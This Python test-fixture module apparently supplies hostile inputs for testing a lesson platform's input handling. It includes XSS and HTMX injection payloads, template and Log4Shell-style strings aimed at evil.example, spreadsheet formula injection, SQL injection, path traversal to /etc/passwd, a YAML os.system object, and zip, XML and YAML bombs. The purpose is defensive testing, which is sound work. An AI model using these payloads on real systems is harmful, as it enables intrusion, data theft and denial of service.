"""What attackers send, in one place: every door of the product is tried with all of it.

Texts must come out as the text they are, and bytes must be refused with a fault, and quickly.
"""

import gzip
import io
import json
import zipfile
from typing import Any

MARK = "zq7"
"""Stands in every text that would act if it were taken for markup: what acts would leave this behind."""

MARKUP = {
    "script": f"<script>window.{MARK}=1</script>",
    "script_closing": f"</script></textarea></title><script>window.{MARK}=1</script>",
    "image": f"<img src=x onerror=window.{MARK}=1>",
    "svg": f"<svg onload=window.{MARK}=1><animate onbegin=window.{MARK}=1 attributeName=x></svg>",
    "attribute": f'" autofocus onfocus="window.{MARK}=1" x="',
    "attribute_single": f"' autofocus onfocus='window.{MARK}=1' x='",
    "frame": f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "style": f"<style>@import 'https://evil.example/{MARK}.css';*{{background:url(https://evil.example/{MARK})}}</style>",
    "link": f"[click](javascript:window.{MARK}=1) <a href='javascript:window.{MARK}=1'>click</a>",
    "data_link": f"[click](data:text/html,<script>window.{MARK}=1</script>)",
    "markdown_image": f"![x](https://evil.example/{MARK}.png)",
    "base": f"<base href=https://evil.example/{MARK}/>",
    "form": f"<form action=https://evil.example/{MARK}><input name=csrfmiddlewaretoken></form>",
    "meta": f"<meta http-equiv=refresh content='0;url=https://evil.example/{MARK}'>",
    "mathml": f"<math><mtext><img src=x onerror=window.{MARK}=1></mtext></math>",
    "latex": rf"$\href{{javascript:window.{MARK}=1}}{{x}}$ $<img src=x onerror=window.{MARK}=1>$",
    "comment": f"<!--><img src=x onerror=window.{MARK}=1>-->",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror=window.{MARK}=1>">',
}
HTMX = {
    "hx_get": f'<b hx-get="/account/sign-out/?{MARK}" hx-trigger="load">x</b>',
    "hx_post": f'<div hx-post="/sessions/{MARK}/skip/" hx-trigger="load" hx-vals=\'{{"key":"1"}}\'></div>',
    "data_hx": f'<div data-hx-get="https://evil.example/{MARK}" data-hx-trigger="load"></div>',
    "hx_on": f'<div hx-on:htmx:load="window.{MARK}=1" hx-on--load="window.{MARK}=1"></div>',
    "oob": f'<div id="player" hx-swap-oob="true">{MARK}</div>',
    "sse": f'<div hx-ext="sse" sse-connect="https://evil.example/{MARK}"></div>',
}
TEMPLATES = {
    "django": "{{ settings.SECRET_KEY }}{% debug %}{% load i18n %}",
    "format": "{0.__class__.__mro__} {SECRET_KEY} %(SECRET_KEY)s %s %n $" + "{jndi:ldap://evil.example/x}",
    "expression": "{{7*7}} #{7*7} *{7*7} <%= 7*7 %>",
}
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example","x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "quoted": '";=1+1;"',
    "full_width": "\uff1d1+1",
}
LOG_LINES = {
    "line": 'x\n{"level": "critical", "event": "forged"}',
    "return": "x\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
    "escape": "x\x1b[2J\x1b]0;owned\x07\x9b31m",
    "separators": "x\u2028y\u2029z\x85w\x0b\x0c",
    "bidi": "\u202etxt.exe\u202c \u2066x\u2069",
}
SQL = {
    "quote": "'; DROP TABLE lesson_engine_session; --",
    "union": "1' UNION SELECT password FROM accounts_user --",
    "like": "%_\\%' ESCAPE '!",
    "dollar": "$$; SELECT pg_sleep(60); $$",
}
UNUSUAL = {
    "nul": "a\x00b",
    "surrogate_text": "\\ud800\\udc00 \\ud800",
    "zalgo": "e" + "\u0301" * 500,
    "invisible": "\u200b\u200d\ufeff\u2060",
    "noncharacter": "\ufffe\uffff\U0010ffff",
    "path": "../../../../etc/passwd%00.json",
    "long_word": "a" * 4_000,
}
TEXTS: dict[str, str] = {
    f"{group}.{name}": text
    for group, texts in {
        "markup": MARKUP,
        "htmx": HTMX,
        "templates": TEMPLATES,
        "formulas": FORMULAS,
        "log": LOG_LINES,
        "sql": SQL,
        "unusual": UNUSUAL,
    }.items()
    for name, text in texts.items()
}
EVERYTHING = "\n\n".join(text for text in TEXTS.values() if "\0" not in text)


def long_lesson(steps: int = 100_000) -> bytes:
    """A well-formed lesson with more steps than any lesson has."""
    step = '{"type":"CONTENT","body":"x"}'
    head = '{"format":"andamio.lesson/1","meta":{"slug":"bomb","title":"B","language":"en","summary":"s",'
    return (head + '"objectives":["o"]},"moments":[{"title":"M","steps":[' + ",".join([step] * steps) + "]}]}").encode()


def _zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("lesson.json", b"0" * 50_000_000)
    return packed.getvalue()


def _yaml_bomb() -> bytes:
    """The "billion laughs" of YAML: ten lines that grow to gigabytes in a parser that follows them."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for name, before in zip("bcdefghi", "abcdefgh", strict=True):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{before}"] * 9) + "]")
    return "\n".join(lines).encode()


def _xml_bomb() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{entities}]><x>&e9;</x>'.encode()


def bombs() -> dict[str, bytes]:
    """Files that are no lessons and would cost much if they were opened trustingly."""
    many_keys: dict[str, Any] = {f"k{n}": n for n in range(120_000)}
    return {
        "zip": _zip_bomb(),
        "gzip": gzip.compress(b"0" * 50_000_000),
        "yaml": _yaml_bomb(),
        "yaml_object": b'!!python/object/apply:os.system ["true"]',
        "xml": _xml_bomb(),
        "deep_lists": b"[" * 1_000_000,
        "deep_objects": b'{"a":' * 200_000 + b"1" + b"}" * 200_000,
        "steps": long_lesson(),
        "keys": json.dumps(many_keys).encode(),
        "digits": b'{"format":"andamio.lesson/1","x":' + b"9" * 1_000_000 + b"}",
        "exponent": b'{"format":"andamio.lesson/1","x":1e999999999}',
        "utf16": '{"format": "andamio.lesson/1"}'.encode("utf-16"),
        "utf32": '{"format": "andamio.lesson/1"}'.encode("utf-32"),
        "nul": b'{"format": "andamio.lesson/1", "meta": "\x00"}',
        "not_utf8": b'{"format": "andamio.lesson/1", "meta": "\xff\xfe"}',
        "huge": b" " * 6_000_000,
        "empty": b"",
        "executable": b"\x7fELF" + b"\x00" * 1_000,
    }
